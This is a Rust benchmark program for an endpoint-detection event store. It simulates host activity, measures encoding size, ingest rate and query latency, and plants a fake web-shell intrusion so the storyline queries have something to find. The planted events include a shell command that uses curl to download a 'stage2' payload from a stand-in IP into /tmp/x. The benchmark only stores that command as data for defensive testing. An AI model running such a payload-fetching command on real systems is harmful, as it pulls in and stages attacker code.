//! Measures the store: encoding size, ingest rate, bytes per event, and
//! investigation latency on a large store.
//!
//! ```sh
//! cargo run --release -p edr-store --example bench -- --events 10000000 --dir /tmp/edr-store-bench
//! # queries only, on the store the previous run left:
//! cargo run --release -p edr-store --example bench -- --events 10000000 --dir /tmp/edr-store-bench --reuse
//! ```
//!
//! Events come from a simulated host: a few hundred live processes in
//! trees that exec children, read and write files, connect out and exit
//! (about 1 exec : 1 exit : 6 file : 1.5 network). Ingest goes through the
//! public writer path (batches of 256, the default 1 s flush interval) with
//! a producer thread that waits when the queue is full, so the figure is
//! what the writer sustains. An attack (nginx -> sh -> curl writing /tmp/x
//! and connecting out) is planted in the middle, with an alert on sh, for
//! the storyline query.

use edr_event::*;
use edr_store::*;
use std::sync::Arc;
use std::time::{Duration, Instant};

struct Args {
    events: u64,
    cache_mib: u64,
    mmap_mib: u64,
    dir: std::path::PathBuf,
    reuse: bool,
}

fn args() -> Args {
    let mut a = Args { events: 1_000_000, cache_mib: 64, mmap_mib: 0, dir: std::env::temp_dir().join("edr-store-bench"), reuse: false };
    let mut it = std::env::args().skip(1);
    while let Some(x) = it.next() {
        match x.as_str() {
            "--events" => a.events = it.next().and_then(|v| v.parse().ok()).expect("--events N"),
            "--dir" => a.dir = it.next().expect("--dir PATH").into(),
            "--reuse" => a.reuse = true,
            "--mmap-mib" => a.mmap_mib = it.next().and_then(|v| v.parse().ok()).expect("--mmap-mib N"),
            "--cache-mib" => a.cache_mib = it.next().and_then(|v| v.parse().ok()).expect("--cache-mib N"),
            other => panic!("unknown argument {other}; use --events N --dir PATH [--cache-mib N] [--mmap-mib N] [--reuse]"),
        }
    }
    a
}

/// A small deterministic PRNG (xorshift64*), so runs are comparable.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[self.below(v.len() as u64) as usize]
    }
}

#[derive(Clone)]
struct Proc {
    pid: u32,
    entity: u64,
    exe: String,
}

/// The simulated host.
struct Host {
    rng: Rng,
    live: Vec<Proc>,
    next_id: u64,
    next_pid: u32,
    next_entity: u64,
    time: u64,
}

const PROGRAMS: &[(&str, &[&str])] = &[
    ("/usr/bin/python3", &["python3", "/opt/app/worker.py", "--job", "#", "--queue", "default"]),
    ("/usr/bin/curl", &["curl", "-s", "-H", "Accept: application/json", "https://api.internal.example/v1/items/#"]),
    ("/bin/bash", &["bash", "-c", "tar czf /backup/app-#.tgz /srv/app/data"]),
    ("/usr/bin/git", &["git", "-C", "/srv/repo", "fetch", "origin", "refs/heads/release-#"]),
    ("/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
    ("/usr/bin/java", &["java", "-Xmx2g", "-jar", "/opt/svc/service-#.jar", "--spring.profiles.active=prod"]),
    ("/bin/ls", &["ls", "-la", "/var/log/app/#"]),
    ("/usr/bin/grep", &["grep", "-r", "ERROR", "/var/log/app/app-#.log"]),
    ("/usr/bin/ssh", &["ssh", "-o", "BatchMode=yes", "deploy@10.1.2.#", "uptime"]),
    ("/usr/lib/postgresql/15/bin/psql", &["psql", "-h", "db-#.internal", "-c", "select count(*) from orders"]),
];

const DIRS: &[&str] = &["/var/log/app", "/srv/app/data", "/tmp", "/etc", "/usr/lib/x86_64-linux-gnu", "/home/deploy/.cache", "/proc/self"];
const NAMES: &[&str] = &["app.log", "config.yaml", "libssl.so.3", "cache.db", "session", "index.html", "passwd", "status"];

impl Host {
    fn new(seed: u64, time: u64) -> Host {
        let mut h = Host { rng: Rng(seed | 1), live: Vec::new(), next_id: 1, next_pid: 1000, next_entity: 1, time };
        for _ in 0..300 {
            let p = h.new_proc();
            h.live.push(p);
        }
        h
    }

    fn entity(&mut self) -> u64 {
        self.next_entity += 1;
        // Entity ids are hashes in the agent: spread over all 64 bits.
        self.next_entity.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5555_0000_0000_0000
    }

    fn new_proc(&mut self) -> Proc {
        self.next_pid = if self.next_pid >= 4_000_000 { 1000 } else { self.next_pid + 1 };
        let (exe, _) = PROGRAMS[self.rng.below(PROGRAMS.len() as u64) as usize];
        Proc { pid: self.next_pid, entity: self.entity(), exe: exe.to_string() }
    }

    fn event(&mut self, body: EventBody) -> Event {
        let id = self.next_id;
        self.next_id += 1;
        self.time += 50_000 + self.rng.below(100_000); // ~10k events/s of host time
        Event { id, time: self.time, partial: false, body }
    }

    fn exec_of(&mut self, child: &Proc, parent: &Proc) -> Event {
        let (_, argv) = PROGRAMS.iter().find(|(e, _)| *e == child.exe).expect("known program");
        let n = self.rng.below(100_000).to_string();
        let argv: Vec<String> = argv.iter().map(|a| a.replace('#', &n)).collect();
        let body = EventBody::ProcessExec(ProcessExec {
            pid: child.pid,
            ppid: parent.pid,
            entity_id: child.entity,
            parent_entity_id: parent.entity,
            exe: child.exe.clone(),
            argv,
            cwd: "/srv/app".into(),
            uid: 1001,
            user: "deploy".into(),
            start_time: self.time,
            parent_exe: parent.exe.clone(),
            parent_argv: vec![parent.exe.rsplit('/').next().unwrap_or("").to_string()],
            ancestry: vec![parent.exe.clone(), "/usr/lib/systemd/systemd".into()],
            ..Default::default()
        });
        self.event(body)
    }

    fn step(&mut self) -> Event {
        let i = self.rng.below(self.live.len() as u64) as usize;
        let p = self.live[i].clone();
        match self.rng.below(19) {
            // spawn a child (exec)
            0 | 1 => {
                let child = self.new_proc();
                let e = self.exec_of(&child, &p);
                self.live.push(child);
                e
            }
            2 | 3 => {
                let gone = self.live.swap_remove(i);
                if self.live.len() < 100 {
                    let c = self.new_proc();
                    self.live.push(c);
                }
                self.event(EventBody::ProcessExit(ProcessExit { pid: gone.pid, entity_id: gone.entity, exit_code: 0 }))
            }
            4..=15 => {
                let path = format!("{}/{}", self.rng.pick(DIRS), self.rng.pick(NAMES));
                let op = [FileOp::Read, FileOp::Read, FileOp::Modify, FileOp::Create, FileOp::Delete][self.rng.below(5) as usize];
                self.event(EventBody::File(FileEvent {
                    op,
                    path,
                    old_path: None,
                    mode: Some(0o644),
                    pid: Some(p.pid),
                    entity_id: Some(p.entity),
                    exe: Some(p.exe.clone()),
                    uid: Some(1001),
                }))
            }
            _ => {
                let remote = format!("10.{}.{}.{}", self.rng.below(4), self.rng.below(256), self.rng.below(256));
                let port = [443u16, 5432, 22, 80, 8080][self.rng.below(5) as usize];
                let local_port = 32768 + self.rng.below(28000) as u16;
                self.event(EventBody::Network(NetworkEvent {
                    op: NetworkOp::Connect,
                    transport: Transport::Tcp,
                    local_ip: "10.0.0.5".into(),
                    local_port,
                    remote_ip: remote,
                    remote_port: port,
                    pid: Some(p.pid),
                    entity_id: Some(p.entity),
                    exe: Some(p.exe.clone()),
                    uid: Some(1001),
                    netns: None,
                    bytes_sent: None,
                    bytes_received: None,
                }))
            }
        }
    }

    /// The planted attack: nginx -> sh -> curl, curl writes /tmp/x and connects out.
    /// nginx is long-lived with heavy activity of its own. Returns the events and the sh exec.
    fn attack(&mut self) -> (Vec<Event>, Event) {
        let systemd = Proc { pid: 1, entity: 0x5157_0000_0000_0001, exe: "/usr/lib/systemd/systemd".into() };
        let nginx = Proc { pid: 700, entity: 0x7a7a_0000_0000_0001, exe: "/usr/sbin/nginx".into() };
        let sh = Proc { pid: 4_100_000, entity: 0x7a7a_0000_0000_0002, exe: "/bin/sh".into() };
        let curl = Proc { pid: 4_100_001, entity: 0x7a7a_0000_0000_0003, exe: "/usr/bin/curl".into() };
        let mut out = Vec::new();
        let mk_exec = |h: &mut Host, c: &Proc, p: &Proc, argv: &[&str]| {
            let body = EventBody::ProcessExec(ProcessExec {
                pid: c.pid,
                ppid: p.pid,
                entity_id: c.entity,
                parent_entity_id: p.entity,
                exe: c.exe.clone(),
                argv: argv.iter().map(|s| s.to_string()).collect(),
                cwd: "/".into(),
                uid: 33,
                user: "www-data".into(),
                start_time: h.time,
                parent_exe: p.exe.clone(),
                parent_argv: vec![],
                ancestry: vec![p.exe.clone()],
                ..Default::default()
            });
            h.event(body)
        };
        out.push(mk_exec(self, &nginx, &systemd, &["nginx", "-g", "daemon off;"]));
        let sh_exec = mk_exec(self, &sh, &nginx, &["sh", "-c", "curl -so /tmp/x http://203.0.113.50/stage2"]);
        out.push(sh_exec.clone());
        out.push(mk_exec(self, &curl, &sh, &["curl", "-so", "/tmp/x", "http://203.0.113.50/stage2"]));
        out.push(self.event(EventBody::Network(NetworkEvent {
            op: NetworkOp::Connect,
            transport: Transport::Tcp,
            local_ip: "10.0.0.5".into(),
            local_port: 41000,
            remote_ip: "203.0.113.50".into(),
            remote_port: 80,
            pid: Some(curl.pid),
            entity_id: Some(curl.entity),
            exe: Some(curl.exe.clone()),
            uid: Some(33),
            netns: None,
            bytes_sent: None,
            bytes_received: None,
        })));
        out.push(self.event(EventBody::File(FileEvent {
            op: FileOp::Create,
            path: "/tmp/x".into(),
            old_path: None,
            mode: Some(0o755),
            pid: Some(curl.pid),
            entity_id: Some(curl.entity),
            exe: Some(curl.exe.clone()),
            uid: Some(33),
        })));
        out.push(self.event(EventBody::ProcessExit(ProcessExit { pid: curl.pid, entity_id: curl.entity, exit_code: 0 })));
        // nginx's own heavy activity: 100,000 log writes.
        for _ in 0..100_000 {
            out.push(self.event(EventBody::File(FileEvent {
                op: FileOp::Modify,
                path: "/var/log/nginx/access.log".into(),
                old_path: None,
                mode: None,
                pid: Some(nginx.pid),
                entity_id: Some(nginx.entity),
                exe: Some(nginx.exe.clone()),
                uid: Some(33),
            })));
        }
        // ... and 50 other workers, siblings of sh (not part of the story).
        for k in 0..50 {
            let w = Proc { pid: 710 + k, entity: 0x7a7a_1000_0000_0000 + k as u64, exe: "/usr/sbin/nginx".into() };
            out.push(mk_exec(self, &w, &nginx, &["nginx: worker process"]));
        }
        (out, sh_exec)
    }
}

fn sizes(host: &mut Host) {
    let n = 200_000;
    let events: Vec<Event> = (0..n).map(|_| host.step()).collect();
    let ctx = ecs::EcsContext::default();
    let mut ecs_bytes = 0usize;
    let mut model_json = 0usize;
    let mut codec_bytes = 0usize;
    let mut buf = Vec::new();
    for e in &events {
        ecs_bytes += serde_json::to_vec(&ecs::event_to_ecs(e, &ctx)).unwrap().len();
        model_json += serde_json::to_vec(e).unwrap().len();
        buf.clear();
        codec::encode_body(e, &mut buf);
        codec_bytes += buf.len();
    }
    let per = |b: usize| b as f64 / n as f64;
    println!("encoding of the full event, mean bytes/event over {n} simulated events:");
    println!("  ECS JSON document      {:>7.1}", per(ecs_bytes));
    println!("  serde_json of model    {:>7.1}", per(model_json));
    println!("  edr-store codec (v1)   {:>7.1}   <- stored in events.body", per(codec_bytes));
    let t = Instant::now();
    let mut total = 0usize;
    for e in &events {
        buf.clear();
        codec::encode_body(e, &mut buf);
        total += buf.len();
    }
    let enc = t.elapsed();
    let t = Instant::now();
    for e in &events {
        buf.clear();
        codec::encode_body(e, &mut buf);
        let d = codec::decode_event(e.id, e.time, e.partial, &buf).unwrap();
        assert_eq!(&d, e);
    }
    let dec = t.elapsed().saturating_sub(enc);
    println!("  codec: encode {:.0} ns/event, decode {:.0} ns/event ({total} bytes)", enc.as_nanos() as f64 / n as f64, dec.as_nanos() as f64 / n as f64);
}

fn ingest(store: &Store, host: &mut Host, n: u64) -> (Event, Duration) {
    let w = store.writer();
    let (tx, rx) = crossbeam_channel::bounded::<Arc<Vec<Event>>>(64);
    let attack_at = n / 2;
    // Generate on this thread, append on another (as the agent's pipeline would).
    let appender = std::thread::spawn(move || {
        let mut full = 0u64;
        for batch in rx {
            loop {
                match w.append_events(batch.clone()) {
                    Ok(()) => break,
                    Err(Backpressure::Full { .. }) => {
                        full += 1;
                        std::thread::sleep(Duration::from_micros(200));
                    }
                    Err(e) => panic!("{e}"),
                }
            }
        }
        w.flush().unwrap();
        full
    });
    let started = Instant::now();
    let mut window = Instant::now();
    let mut sent = 0u64;
    let mut sh = None;
    let mut report_every = 1_000_000u64;
    if n < 4_000_000 {
        report_every = n / 4;
    }
    let mut next_report = report_every;
    while sent < n {
        let mut batch = Vec::with_capacity(256);
        if sent >= attack_at && sh.is_none() {
            let (events, sh_exec) = host.attack();
            sh = Some(sh_exec);
            for chunk in events.chunks(256) {
                sent += chunk.len() as u64;
                tx.send(Arc::new(chunk.to_vec())).unwrap();
            }
            continue;
        }
        while batch.len() < 256 && sent + (batch.len() as u64) < n {
            batch.push(host.step());
        }
        sent += batch.len() as u64;
        tx.send(Arc::new(batch)).unwrap();
        if sent >= next_report {
            let rate = report_every as f64 / window.elapsed().as_secs_f64();
            let s = store.stats();
            println!(
                "  {:>9} events queued; last {}: {:>7.0} events/s; {} committed, {:.0} bytes/event in use",
                sent,
                report_every,
                rate,
                s.events,
                s.bytes_used as f64 / s.events.max(1) as f64
            );
            window = Instant::now();
            next_report += report_every;
        }
    }
    drop(tx);
    let full = appender.join().unwrap();
    let elapsed = started.elapsed();
    println!("  queue-full retries by the producer: {full}");
    (sh.expect("attack planted"), elapsed)
}

fn time<T>(label: &str, runs: usize, mut f: impl FnMut() -> T) -> T {
    let mut times = Vec::new();
    let mut out = None;
    for _ in 0..runs {
        let t = Instant::now();
        out = Some(f());
        times.push(t.elapsed());
    }
    let first = times[0];
    times.sort();
    println!("  {label:<58} first {:>8.2} ms, median {:>8.2} ms", first.as_secs_f64() * 1e3, times[times.len() / 2].as_secs_f64() * 1e3);
    out.unwrap()
}

fn main() {
    let a = args();
    let mut host = Host::new(0x5eed, 1_780_000_000_000_000_000);
    sizes(&mut host);
    let mut host = Host::new(0x5eed, 1_780_000_000_000_000_000);
    let path = a.dir.join("events.db");
    if !a.reuse {
        let _ = std::fs::remove_dir_all(&a.dir);
    }
    let mut cfg = StoreConfig::new(&path);
    cfg.writer_cache_bytes = a.cache_mib << 20;
    cfg.read_mmap_bytes = a.mmap_mib << 20;
    let store = Store::open(cfg).expect("open");
    if !a.reuse {
        println!("ingest of {} events through StoreWriter (batches of 256, flush interval 1 s, writer cache {} MiB):", a.events, a.cache_mib);
        let (sh, elapsed) = ingest(&store, &mut host, a.events);
        let w = store.writer();
        w.append_alert(&Alert {
            id: 1,
            time: sh.time,
            plugin: "lineage".into(),
            pack: None,
            finding: Finding {
                rule_id: "edr.lineage.service-spawned-shell".into(),
                title: "Service spawned a shell".into(),
                severity: Severity::High,
                techniques: vec!["T1505.003".into()],
                message: "nginx started sh".into(),
                author: "bench".into(),
                event_ids: vec![sh.id],
                evidence: vec![],
            },
            event: Some(sh.clone()),
        })
        .unwrap();
        w.flush().unwrap();
        let s = store.stats();
        println!(
            "  total: {} events in {:.1} s = {:.0} events/s (commits: {}, appends refused while the queue was full, then retried: {} events)",
            s.events,
            elapsed.as_secs_f64(),
            s.events as f64 / elapsed.as_secs_f64(),
            s.commits,
            s.events_dropped
        );
    }
    let s = store.stats();
    let db = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
    println!(
        "disk: {} events, database file {:.1} MiB, {:.0} bytes/event (file), {:.0} bytes/event (pages in use), on disk with WAL {:.1} MiB",
        s.events,
        db as f64 / 1048576.0,
        db as f64 / s.events as f64,
        s.bytes_used as f64 / s.events as f64,
        s.bytes_on_disk as f64 / 1048576.0
    );
    let share = store.query("SELECT name, sum(pgsize) FROM dbstat GROUP BY name ORDER BY 2 DESC").ok();
    if let Some(r) = share {
        for row in r.rows {
            println!("  {:<18} {:>8.1} MiB", row[0].as_str().unwrap_or(""), row[1].as_f64().unwrap_or(0.0) / 1048576.0);
        }
    }

    println!("queries on {} events (release build; 'first' is the first run after open; read mmap {} MiB):", s.events, a.mmap_mib);
    let story = time("storyline(alert 1)", 7, || store.storyline(1, StorylineOptions::default()).unwrap());
    println!("    -> {} processes, {} events, truncated: {}", story.processes.len(), story.events.len(), story.truncated);
    let story = time("storyline(alert 1, ancestor_activity; max_events 5000)", 3, || {
        store.storyline(1, StorylineOptions { ancestor_activity: true, ..Default::default() }).unwrap()
    });
    println!("    -> {} events, truncated: {}", story.events.len(), story.truncated);
    let r = time("search_command_line(\"203.0.113.50\") whole store (rare)", 3, || store.search_command_line("203.0.113.50", None, None, 100).unwrap());
    println!("    -> {} matches", r.len());
    let r = time("search_command_line(\"WORKER.PY\", limit 100) (common)", 3, || store.search_command_line("WORKER.PY", None, None, 100).unwrap());
    println!("    -> {} matches", r.len());
    let newest = s.newest_time.unwrap_or(0);
    let oldest = s.oldest_time.unwrap_or(0);
    let tenth = (newest - oldest) / 10;
    let r =
        time("search_command_line(rare) in the newest 10% of time", 3, || store.search_command_line("203.0.113.50", Some(newest - tenth), None, 100).unwrap());
    println!("    -> {} matches", r.len());
    let r = time("search_command_line(rare) in the middle 10% of time", 3, || {
        store.search_command_line("203.0.113.50", Some(oldest + 4 * tenth), Some(oldest + 6 * tenth), 100).unwrap()
    });
    println!("    -> {} matches", r.len());
    let r = time("timeline(Pid(4100001))", 5, || store.timeline(TimelineKey::Pid(4_100_001), None, None, 1000).unwrap());
    println!("    -> {} events", r.len());
    let r = time("timeline(Entity(nginx), limit 1000)", 5, || store.timeline(TimelineKey::Entity(0x7a7a_0000_0000_0001), None, None, 1000).unwrap());
    println!("    -> {} events", r.len());
    let r = time("timeline(Path(\"/tmp/x\"), limit 1000)", 5, || store.timeline(TimelineKey::Path("/tmp/x".into()), None, None, 1000).unwrap());
    println!("    -> {} events", r.len());
    let r = time("query: network view, remote_ip = '203.0.113.50'", 3, || {
        store.query("SELECT ts, exe, remote_ip, remote_port FROM network WHERE remote_ip = '203.0.113.50'").unwrap()
    });
    println!("    -> {} rows (full scan: remote_ip has no index)", r.rows.len());
    let r = time("query: process view, last 100 execs", 3, || {
        store.query("SELECT ts, pid, name, command_line FROM process WHERE action = 'exec' ORDER BY time DESC LIMIT 100").unwrap()
    });
    println!("    -> {} rows", r.rows.len());
    let mut out = std::io::sink();
    let t = Instant::now();
    let n = store.export(Some(newest - tenth / 10), None, &mut out).unwrap();
    let el = t.elapsed();
    println!("  export of the newest 1% of time: {n} events in {:.0} ms ({:.0} events/s)", el.as_secs_f64() * 1e3, n as f64 / el.as_secs_f64());
}
